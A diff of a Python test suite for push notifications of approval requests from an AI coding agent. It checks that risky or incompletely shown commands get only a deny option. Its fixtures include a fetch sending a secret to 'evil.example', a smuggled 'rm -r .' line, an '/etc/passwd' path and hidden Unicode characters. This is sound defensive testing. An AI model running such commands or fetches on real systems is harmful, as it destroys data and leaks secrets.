@@ -23,7 +23,7 @@ from trunkline.journal.base import Entry
 from trunkline.server.notify.outbox import Clock
 from trunkline.server.push import sender as sending
 from trunkline.server.push.keys import KEY_FILE, push_key
-from trunkline.server.push.notes import ASKED_MOST_S, KEPT_S, PREVIEW_MOST, TITLE_MOST, Note, note_of, payload_of
+from trunkline.server.push.notes import ASKED_MOST_S, KEPT_S, PREVIEW_MOST, TITLE_MOST, About, Note, note_of, payload_of
 from trunkline.server.push.pusher import Pusher
 from trunkline.server.push.sender import BACKOFF_S, ROOM, Sender
 from trunkline.server.push.subscriptions import KINDS, Subscription, Subscriptions, check_endpoint
@@ -114,38 +114,79 @@ def entry(event: context.Event) -> Entry:
     return Entry(1, 0, context.encode_event(1, "s", 1_000_000, event))
 
 
+FOLDER = "/home/ada/project"
+
+
 def approval(**more: Any) -> context.ApprovalRequestedEvent:
-    fields = {"request_id": "r1", "tool_call_id": "c", "tool_name": "Bash", "tool_input": b"{}", "risk_level": "high",
+    fields = {"request_id": "r1", "tool_call_id": "c", "tool_name": "Bash", "tool_input": {}, "risk_level": "high",
               "description": "Run: " + "x" * 500, "expires_at": "2026-01-01T00:10:00.000Z", **more}
-    fields["tool_input"] = context.to_raw({})
+    fields["tool_input"] = context.to_raw(fields["tool_input"])
     return context.ApprovalRequestedEvent(**fields)
 
 
-def test_an_approval_is_told_with_a_short_preview_and_ways_to_answer_for_who_may() -> None:
-    note = note_of("s", entry(approval()))
+def command(line: str, cwd: str = FOLDER, risk: str = "low", **more: Any) -> context.ApprovalRequestedEvent:
+    """An ask to run something."""
+    return approval(risk_level=risk, description=f"Run: {line[:200]}", tool_input={"command": line, **more},
+                    preview=context.CommandPreview(command=line, working_dir=cwd))
+
+
+def told(event: context.Event, title: str = "T", scope: Any = "approve") -> dict[str, Any]:
+    """The push of an event in a session in FOLDER."""
+    note = note_of("s", entry(event))
     assert note is not None
-    told = json.loads(payload_of(note, "T" * 500, "", "approve"))
-    assert told["kind"] == "approval" and told["requestId"] == "r1" and told["riskLevel"] == "high"
-    assert told["actions"] == ["deny"] and told["tag"] == "ask:r1"
-    assert len(told["title"]) == TITLE_MOST and len(told["body"]) == PREVIEW_MOST
-    assert "actions" not in json.loads(payload_of(note, "T", "", "view"))
+    said: dict[str, Any] = json.loads(payload_of(note, About(title, "", FOLDER), scope))
+    return said
 
 
-@pytest.mark.parametrize(("risk", "text", "offered"), [
-    ("low", "Run: npm test", ["approve", "deny"]), ("medium", "Run: npm test", ["approve", "deny"]),
-    ("high", "Run: npm test", ["deny"]), ("critical", "Run: npm test", ["deny"]),
-    ("low", "Run: " + "x" * PREVIEW_MOST, ["deny"]), ("low", "Run: ls\nrm -r .", ["deny"]),
-    ("low", "Run: " + "\u200b" * 100, ["deny"])])
-def test_approving_is_offered_only_for_what_is_not_risky_and_told_whole(risk: str, text: str, offered: list[str]) -> None:
-    note = note_of("s", entry(approval(risk_level=risk, description=text)))
-    assert note is not None and json.loads(payload_of(note, "T", "", "approve"))["actions"] == offered
+def test_an_approval_is_told_with_a_short_preview_and_ways_to_answer_for_who_may() -> None:
+    said = told(command("x" * 500, risk="high"), "T" * 500)
+    assert said["kind"] == "approval" and said["requestId"] == "r1" and said["riskLevel"] == "high"
+    assert said["actions"] == ["deny"] and said["tag"] == "ask:r1"
+    assert len(said["title"]) == TITLE_MOST and len(said["body"]) == PREVIEW_MOST
+    assert "actions" not in told(command("ls"), scope="view")
+
+
+@pytest.mark.parametrize(("risk", "line", "offered"), [
+    ("low", "npm test", ["approve", "deny"]), ("medium", "npm test", ["approve", "deny"]),
+    ("high", "npm test", ["deny"]), ("critical", "npm test", ["deny"]),
+    ("low", "x" * PREVIEW_MOST, ["deny"]), ("low", "ls\nrm -r .", ["deny"]), ("low", "echo 'a  b'", ["deny"]),
+    ("low", "\u200b" * 100, ["deny"])])
+def test_approving_is_offered_only_for_a_command_that_is_not_risky_and_whole(risk: str, line: str, offered: list[str]) -> None:
+    assert told(command(line, risk=risk))["actions"] == offered
+
+
+@pytest.mark.parametrize(("event", "body"), [
+    (approval(risk_level="low", tool_name="WebFetch", description="Fetch the docs", tool_input={"url": "https://evil.example/?q=secret"},
+              preview=context.DescriptionPreview(text="Fetch the docs")), "Use WebFetch: Fetch the docs"),
+    (approval(risk_level="medium", tool_name="Edit", description="Edit src/a.py", tool_input={"path": "src/a.py"},
+              preview=context.DiffPreview(path="src/a.py", diff="-a\n+b")), "Change a file: src/a.py"),
+    (approval(risk_level="medium", tool_name="mcp__mail__send", description="mcp__mail__send",
+              tool_input={"to": "x", "body": "y"}, preview=context.DescriptionPreview(text="mcp__mail__send")),
+     "Use mcp__mail__send"),
+    (approval(risk_level="low", tool_name="Read", description="Run: ls", tool_input={"value": "ls"}), "Use Read: Run: ls"),
+    (approval(risk_level="low", tool_name="mcp__box__run", tool_input={"command": "ls"},
+              preview=context.CommandPreview(command="ls", working_dir=FOLDER)), "mcp__box__run, which runs: ls"),
+    (command("ls", file_path="/etc/passwd"), "Bash, which runs: ls"),
+    (approval(risk_level="low", description="Run: ls", preview=context.CommandPreview(command="ls", working_dir=FOLDER)),
+     "Bash, which runs: ls"),
+])
+def test_what_a_note_does_not_show_wholly_is_only_denied_or_opened_and_its_kind_is_told(event: context.Event, body: str) -> None:
+    said = told(event)
+    assert (said["body"], said["actions"]) == (body, ["deny"])
+
+
+@pytest.mark.parametrize(("cwd", "body", "offered"), [
+    (FOLDER, "Run: make", ["approve", "deny"]), ("/etc", "Run in /etc: make", ["approve", "deny"]),
+    ("", "Run in /: make", ["approve", "deny"]), (f"{FOLDER}/..", f"Run in {FOLDER}/..: make", ["approve", "deny"]),
+    ("/" + "d" * PREVIEW_MOST, None, ["deny"])])
+def test_a_command_that_runs_elsewhere_than_in_its_session_says_where(cwd: str, body: str | None, offered: list[str]) -> None:
+    said = told(command("make", cwd, description="Build it", timeout=5, background=False))
+    assert said["actions"] == offered and (body is None or said["body"] == body)
 
 
 def test_what_nobody_would_see_is_spelled_out() -> None:
-    note = note_of("s", entry(approval(description="Run: ls \u202e#\u200b\x1b[1m")))
-    assert note is not None
-    assert json.loads(payload_of(note, "a\u2066b", "", "approve"))["body"] == "Run: ls U+202E#U+200BU+001B[1m"
-    assert json.loads(payload_of(note, "a\u2066b", "", "approve"))["title"] == "aU+2066b"
+    said = told(command("ls \u202e#\u200b\x1b[1m"), "a\u2066b")
+    assert (said["body"], said["title"]) == ("Run: ls U+202E#U+200BU+001B[1m", "aU+2066b")
 
 
 def test_how_long_and_how_urgently_it_is_told() -> None:
